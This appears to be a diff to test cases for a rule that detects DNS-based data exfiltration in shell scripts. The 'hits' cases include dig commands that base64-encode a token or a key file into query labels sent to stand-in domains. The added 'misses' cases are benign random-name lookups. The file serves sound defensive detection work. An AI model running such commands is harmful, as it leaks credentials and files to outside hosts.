@@ -93,6 +93,11 @@ ruleCases(beacon, {
 ruleCases(dnsData, {
   hits: [
     {
+      name: 'a secret beside a random part',
+      path: 'a.sh',
+      text: 'dig "$(date +%s).$(base64 < k).x.test"\n',
+    },
+    {
       name: 'a secret in a query',
       path: 'a.sh',
       text: 'dig $(echo $TOKEN | base64).x.example\n',
@@ -110,6 +115,11 @@ ruleCases(dnsData, {
     },
   ],
   misses: [
+    {
+      name: 'a name that nobody asked for before',
+      path: 'a.sh',
+      text: 'dig +short "probe-$(date +%s).acme.test"\ndig "$(uuidgen).acme.test"\ndig "$RANDOM.acme.test"\n',
+    },
     { name: 'a name that is passed', path: 'a.sh', text: 'dig +short "$DOMAIN" A\n' },
     { name: "a domain's record", path: 'a.sh', text: 'dig TXT _dmarc.$DOMAIN\n' },
     {
